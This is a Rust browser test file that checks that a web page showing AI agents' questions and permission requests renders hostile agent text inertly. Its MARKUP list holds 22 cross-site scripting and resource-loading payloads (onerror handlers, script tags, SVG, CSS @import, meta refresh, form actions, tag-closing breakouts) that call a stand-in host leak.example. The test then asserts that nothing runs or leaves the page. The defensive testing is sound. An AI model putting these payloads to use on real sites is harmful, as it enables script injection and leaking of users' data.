//! Hostile agents: whatever their texts say, nothing runs, nothing leaves the page, and each character can be seen.

use serde_json::{Value, json};

use crate::{
    browser::Browser,
    corpus::HOSTILE,
    listener::Listener,
    permissions::permission,
    world::{World, asks},
};

/// Markup that runs a script or asks another server, each in its own way.
const MARKUP: [&str; 22] = [
    "<img src='http://LEAK/img' onerror='top.leaked=1'>",
    "<img src=x onerror='parent.leaked=1;top.leaked=1;fetch(\"http://LEAK/onerror\")'>",
    "<script>top.leaked=1;fetch('http://LEAK/script')</script>",
    "<script src='http://LEAK/script.js'></script>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='top.leaked=1'><image href='http://LEAK/image'/><script>top.leaked=1</script><a href='http://LEAK/a'><text y='20'>x</text></a><foreignObject><img xmlns='http://www.w3.org/1999/xhtml' src='http://LEAK/foreign'/></foreignObject></svg>",
    "<iframe src='http://LEAK/frame'></iframe><iframe srcdoc='<script>top.leaked=1</script>'></iframe>",
    "<link rel=preconnect href='http://LEAK/'><link rel=stylesheet href='http://LEAK/css'><link rel=prefetch href='http://LEAK/prefetch'>",
    "<meta http-equiv=refresh content='0;url=http://LEAK/meta'>",
    "<style>@import 'http://LEAK/import'; body { background: url(http://LEAK/background) } @font-face { font-family: f; src: url(http://LEAK/font) } p { font-family: f }</style><p>x</p>",
    "<p style='background:url(http://LEAK/style)'>x</p>",
    "<video src='http://LEAK/video' poster='http://LEAK/poster' autoplay></video><audio src='http://LEAK/audio' autoplay></audio>",
    "<form action='http://LEAK/form' target=_top><input autofocus onfocus='top.leaked=1'><button>Send answer</button></form>",
    "<base href='http://LEAK/'><img src='base'>",
    "<object data='http://LEAK/object'></object><embed src='http://LEAK/embed'>",
    "<a href='http://LEAK/link' ping='http://LEAK/ping' target=_top>link</a>",
    "<template shadowrootmode=open><img src='http://LEAK/shadow'></template>",
    "<details open ontoggle='top.leaked=1'><summary>x</summary></details>",
    "<noscript><img src='http://LEAK/noscript'></noscript><picture><source srcset='http://LEAK/srcset'><img></picture>",
    "![image](http://LEAK/markdown) [link](javascript:top.leaked=1) <http://LEAK/auto>",
    "```html\n<img src='http://LEAK/fence'>\n```\n`<img src='http://LEAK/inline'>`",
    "graph TD; A[\"<img src='http://LEAK/mermaid' onerror='top.leaked=1'>\"] --> B; click A \"http://LEAK/click\"",
    "</script></style></textarea></title>--><img src='http://LEAK/closed' onerror='top.leaked=1'>",
];

/// Returns a question all of whose texts are this one.
fn question(id: u64, text: &str) -> Value {
    let option = |format: &str| {
        let value = format!("{text} {format}");
        json!({ "value": value, "label": value, "description": text, "preview": { "format": format, "text": text } })
    };
    let options: Vec<_> =
        ["html", "svg", "markdown", "mermaid", "code", "text"].into_iter().map(option).collect();
    let fields = json!([
        { "name": "a", "label": text, "header": text, "help": text, "kind": "choices", "options": options, "other": true },
        { "name": "b", "label": text, "help": text, "kind": "text", "default": text, "placeholder": text, "pattern": "^x$" },
        { "name": "c", "label": text, "kind": "confirm", "yes": text, "no": format!("{text} no") },
    ]);
    asks(id, text, &fields)
}

/// Returns a permission all of whose texts are this one.
fn allows(id: u64, text: &str) -> Value {
    let input = json!({ "command": text, "cwd": text, "description": text, "more": [text] });
    let mut request = permission(id, text, "execute", &input);
    let diff = json!({ "type": "diff", "path": text, "oldText": text, "newText": format!("{text}\n{text}") });
    let content = json!({ "type": "content", "content": { "type": "text", "text": text } });
    let call = &mut request["params"]["toolCall"];
    call["content"] = json!([diff, content]);
    call["locations"] = json!([{ "path": text }]);
    request["params"]["options"][0]["name"] = json!(text);
    request
}

/// Returns what is on the page that only markup of an agent could have put there, and texts with characters that hide or
/// reorder others. The page itself isolates names by U+2068 and U+2069.
const INTRUDERS: &str = "
    const intruders = () => {
      const [inbox] = all('askbridge-inbox');
      const tags = 'img, script, svg, object, embed, video, audio, base, meta, template, noscript, picture';
      // A link of Markdown is ours: it says where it leads.
      const says = (link) => [link.textContent, link.nextSibling?.textContent.replace(/^ \\(|\\)$/g, '')].some((text) => text?.replace(/\\/$/, '') === link.href.replace(/\\/$/, ''));
      const isOurs = (link) => link.rel === 'noopener noreferrer' && link.target === '_blank' && says(link);
      const links = all('a[href^=http]', inbox).filter((link) => !isOurs(link));
      const markup = [...all(`${tags}, a[href^=javascript]`, inbox), ...links];
      const frames = all('iframe').filter((frame) => frame.getAttribute('sandbox') !== '' || frame.src);
      const handlers = all('*').filter((element) => element.getAttributeNames().some((name) => name.startsWith('on')));
      const hidden = /[\\0-\\x08\\x0b-\\x1f\\x7f-\\x9f\\u200e\\u200f\\u202a-\\u202e\\u2028\\u2029\\u2066\\u2067\\ufeff]/;
      const texts = all('*').filter((element) => !element.matches('style')).flatMap((element) => [...element.childNodes]);
      const bare = texts.filter((node) => node.nodeType === Node.TEXT_NODE && hidden.test(node.data));
      const found = [...markup, ...frames, ...handlers].map((element) => element.outerHTML);
      return [...found, ...bare.map((node) => JSON.stringify(node.data)), ...(typeof leaked === 'undefined' ? [] : ['a script ran'])];
    };
";

/// Shows a question with all that is folded, sends it as it is, and returns the intruders, and how many frames there were.
const SHOW: &str = "
    const until = async (holds) => {
      for (let tries = 0; tries < 1000 && !holds(); tries += 1) await new Promise((done) => setTimeout(done, 5));
      if (!holds()) throw new Error(`waited too long: ${holds}`);
    };
    all('askbridge-inbox')[0].show(arguments[0]);
    await until(() => card()?.record.id === arguments[0]);
    let loads = 0;
    card().shadowRoot.addEventListener('load', () => (loads += 1), true);
    const previews = all('details', card());
    previews.forEach((details) => (details.open = true));
    await until(() => previews.every((details) => details.children.length > 1));
    await until(() => loads >= all('iframe', card()).length);
    const found = intruders();
    card().submit();
    return [[...found, ...intruders()], loads];
";

/// Whether an event of the network is a request to anything but the server itself.
fn leaves(event: &str, world: &World) -> bool {
    let event: Value = serde_json::from_str(event).unwrap();
    let (message, own) = (&event["message"], world.address("/"));
    let url = message["params"]["request"]["url"].as_str().unwrap_or_default();
    message["method"] == "Network.requestWillBeSent"
        && ![&*own, "data:", "about:"].iter().any(|start| url.starts_with(start))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_of_a_hostile_agent_runs_or_leaves_the_page() {
    let listener = Listener::start("ok");
    let rules = format!("--host-resolver-rules=MAP *.example 127.0.0.1:{}", listener.port);
    let (world, browser) = (World::start(), Browser::start_logging(&[&rules]).await);
    let texts: Vec<String> =
        HOSTILE.iter().chain(&MARKUP).map(|text| text.replace("LEAK", "leak.example")).collect();
    let questions = texts.iter().enumerate().map(|(number, text)| question(number as u64, text));
    let permissions = texts.iter().enumerate().map(|(number, text)| allows(1000 + number as u64, text));
    let _agent = world.agent(&questions.chain(permissions).collect::<Vec<_>>());
    browser.sign_in(&world).await;
    browser
        .until("all of them", "all('button.row').length === arguments[0]", &[json!(2 * texts.len())])
        .await;
    assert_eq!(browser.run(&format!("{INTRUDERS} return intruders();"), &[]).await, json!([]), "the list");
    // What was loaded before the page is the browser's.
    browser.log("performance").await;
    let open = world.open().await;
    let mut frames = 0;
    for record in &open {
        let seen = browser.run_async(&format!("{INTRUDERS} {SHOW}"), &[record["id"].clone()]).await;
        assert_eq!(seen[0], json!([]), "{record}");
        frames += seen[1].as_u64().unwrap();
    }
    // One of HTML and one of SVG for each text.
    assert_eq!(frames, 2 * texts.len() as u64);
    // Settled ones show who settled them, and with which words.
    for (record, text) in open.iter().zip(texts.iter().cycle()) {
        let path = format!("/v1/questions/{}/reject", record["id"].as_str().unwrap());
        world
            .http
            .post(&path, &json!({ "reason": text.chars().take(200).collect::<String>() }).to_string())
            .await
            .is(204);
    }
    browser.until("an end", "card()?.record.settlement", &[]).await;
    assert_eq!(browser.run(&format!("{INTRUDERS} return intruders();"), &[]).await, json!([]), "settled");
    // The parser of previews meets a `base` and handlers of events, none of which the policy lets count.
    let others = "return [refused.filter((what) => !/^(base-uri|script-src-attr) /.test(what)), failed];";
    assert_eq!(browser.run(others, &[]).await, json!([[], []]));
    assert_eq!(listener.requests(), [""; 0]);
    let outside: Vec<_> =
        browser.log("performance").await.into_iter().filter(|event| leaves(event, &world)).collect();
    assert_eq!(outside, [""; 0]);
    // The listener would have heard of it.
    browser.goto("http://leak.example/last").await;
    assert!(
        listener.requests().iter().any(|line| line.starts_with("GET /last ")),
        "{:?}",
        listener.requests()
    );
}

/// A permission may hold a mebibyte, and the page stays quick.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_long_text_does_not_stop_the_page() {
    let (world, browser) = (World::start(), Browser::start().await);
    let long = "word \u{202e} ".repeat(60_000);
    let agent = permission(1, "Write a file", "edit", &json!({ "path": "/shop/a", "content": long }));
    let _agent = world.agent(&[agent]);
    browser.sign_in(&world).await;
    browser.select("Write a file").await;
    let took = browser.run("const start = performance.now(); all('details', card()).forEach((details) => (details.open = !details.open)); card().getBoundingClientRect(); return performance.now() - start;", &[]).await;
    assert!(took.as_f64().unwrap() < 5000.0, "{took}");
}
